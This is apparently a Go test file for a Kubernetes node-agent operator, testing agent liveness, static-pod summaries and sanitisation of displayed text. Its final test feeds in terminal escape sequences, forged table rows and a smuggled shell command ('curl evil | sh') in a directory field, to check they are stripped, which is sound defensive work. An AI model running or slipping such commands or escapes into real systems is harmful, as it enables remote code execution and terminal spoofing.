package view_test

import (
	"errors"
	"os"
	"strings"
	"testing"
	"time"

	coordinationv1 "k8s.io/api/coordination/v1"
	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"

	"ebbtide.dev/ebbtide/api/v1alpha1"
	"ebbtide.dev/ebbtide/internal/core/view"
	"ebbtide.dev/ebbtide/test/difference"
	"ebbtide.dev/ebbtide/test/golden"
)

var noon = time.Date(2026, 3, 1, 12, 0, 0, 0, time.UTC)

func seven(pods ...v1alpha1.StaticPod) *v1alpha1.NodeAgent {
	return &v1alpha1.NodeAgent{
		ObjectMeta: metav1.ObjectMeta{Name: "node-7", CreationTimestamp: metav1.NewTime(noon)},
		Status:     v1alpha1.NodeAgentStatus{PodName: "ebbtide-agent-x", ManifestDir: "/etc/kubernetes/manifests", StaticPods: pods},
	}
}

func in(state v1alpha1.StaticPodState, name string) v1alpha1.StaticPod {
	return v1alpha1.StaticPod{Namespace: "kube-system", Name: name, State: state}
}

func agentPod(node string, ready corev1.ConditionStatus) view.AgentSigns {
	return view.AgentSigns{Namespace: "tides", Pods: map[string]*corev1.Pod{"ebbtide-agent-x": {
		ObjectMeta: metav1.ObjectMeta{Namespace: "tides"},
		Spec:       corev1.PodSpec{NodeName: node},
		Status:     corev1.PodStatus{Conditions: []corev1.PodCondition{{Type: corev1.PodReady, Status: ready}}},
	}}}
}

func agentLease(holder string, renewed time.Time) view.AgentSigns {
	return view.AgentSigns{Namespace: "tides", Now: noon, Leases: map[string]*coordinationv1.Lease{"ebbtide-agent-node-7": {
		Spec: coordinationv1.LeaseSpec{HolderIdentity: &holder, RenewTime: &metav1.MicroTime{Time: renewed}},
	}}}
}

func TestMain(m *testing.M) { os.Exit(golden.Main(m)) }

func TestWhetherAnAgentAnswers(t *testing.T) {
	t.Parallel()
	held := in(v1alpha1.StaticPodHeld, "proxy-node-7")
	unit := seven()
	unit.Status.PodName = ""
	elsewhere := seven()
	elsewhere.Status.PodNamespace = "agents"
	for name, test := range map[string]struct {
		agent *v1alpha1.NodeAgent
		signs view.AgentSigns
		want  string
	}{
		"its pod is ready":                  {seven(held), agentPod("node-7", corev1.ConditionTrue), "yes"},
		"its pod is not ready":              {seven(), agentPod("node-7", corev1.ConditionFalse), "no"},
		"its pod is gone":                   {seven(), view.AgentSigns{Namespace: "tides"}, "no"},
		"the pod of another node":           {seven(), agentPod("node-8", corev1.ConditionTrue), "no"},
		"its pod is elsewhere":              {elsewhere, agentPod("node-7", corev1.ConditionTrue), "no"},
		"it keeps a pod away":               {seven(held), view.AgentSigns{Namespace: "tides"}, "no"},
		"nobody may look":                   {seven(held), view.AgentSigns{PodsUnread: errors.New("forbidden")}, "unknown"},
		"a unit of the host":                {unit, agentLease("node-7", noon.Add(-39*time.Second)), "yes"},
		"a unit that was here a minute ago": {unit, agentLease("node-7", noon.Add(-time.Minute)), "no"},
		"a unit whose clock is ahead":       {unit, agentLease("node-7", noon.Add(time.Minute)), "no"},
		"a unit in whose place another is":  {unit, agentLease("node-8", noon), "no"},
		"a unit that was never here":        {unit, view.AgentSigns{Namespace: "tides", Now: noon}, "no"},
		"a unit of which nobody may ask":    {unit, view.AgentSigns{LeasesUnread: errors.New("forbidden"), Now: noon}, "unknown"},
		"a unit where nobody may see pods": {unit, view.AgentSigns{
			PodsUnread: errors.New("forbidden"), Now: noon, Leases: agentLease("node-7", noon).Leases,
		}, "yes"},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			got := view.AgentOf(test.agent, test.signs)
			golden.Message(t, strings.Join(got.Notes, "\n"))
			if got.Answers != test.want || len(got.Notes) > 0 != (test.want == "no") {
				t.Errorf("it answers: %s, with notes %q, want %s", got.Answers, got.Notes, test.want)
			}
		})
	}
}

func TestTheStaticPodsOfANode(t *testing.T) {
	t.Parallel()
	holding := in(v1alpha1.StaticPodHolding, "proxy-node-7")
	holding.SinceTime, holding.MaintenanceName, holding.Message = &metav1.Time{Time: noon}, "upgrade", "it terminates"
	agent := seven(in(v1alpha1.StaticPodUnmanageable, "etcd-node-7"), in(v1alpha1.StaticPodRunning, "log-node-7"),
		in(v1alpha1.StaticPodRestoring, "back-node-7"), in(v1alpha1.StaticPodHeld, "dns-node-7"), holding)
	agent.Status.Shutdown = &v1alpha1.NodeShutdown{Phase: v1alpha1.ShutdownPreparing, Mode: v1alpha1.ShutdownModeDrain}
	want := view.Agent{
		Node: "node-7", Answers: "yes", Running: 2, Held: 2, Left: 1, Shutdown: "Preparing", Mode: "Drain", Since: noon,
		Pods: []view.StaticPod{
			{Name: "kube-system/proxy-node-7", State: "Holding", Since: noon, Maintenance: "upgrade", Message: "it terminates"},
			{Name: "kube-system/dns-node-7", State: "Held"},
			{Name: "kube-system/back-node-7", State: "Restoring"},
			{Name: "kube-system/log-node-7", State: "Running"},
			{Name: "kube-system/etcd-node-7", State: "Unmanageable"},
		},
	}
	difference.None(t, "shown", want, view.AgentOf(agent, agentPod("node-7", corev1.ConditionTrue)))
}

// Whoever has power over a node writes its NodeAgent, and administrators read it in a terminal.
func TestTextOfAgentsHasNoTerminalCommands(t *testing.T) {
	t.Parallel()
	evil := in("\x1b[2JHeld", "x\nnode-8   yes")
	evil.Message, evil.MaintenanceName = strings.Repeat("\x1b]0;owned\x07", 1000), "\u202ekcab"
	agent := seven(evil, in(v1alpha1.StaticPodHeld, "proxy-node-7"))
	agent.Status.PodName, agent.Status.ManifestDir = "a\x1b[31mb", `/x"; curl evil | sh; "`
	agent.Status.Shutdown = &v1alpha1.NodeShutdown{Phase: "\x1b[5m", Mode: "\r"}
	got := view.AgentOf(agent, view.AgentSigns{Namespace: "tides"})
	texts := append([]string{got.Shutdown, got.Mode}, got.Notes...)
	for _, pod := range got.Pods {
		texts = append(texts, pod.Name, pod.State, pod.Message, pod.Maintenance)
	}
	for _, text := range texts {
		if strings.ContainsAny(text, "\x1b\n\r\x07\u202e") || strings.Contains(text, "curl") || len(text) > 700 {
			t.Errorf("shown: %q", text)
		}
	}
}
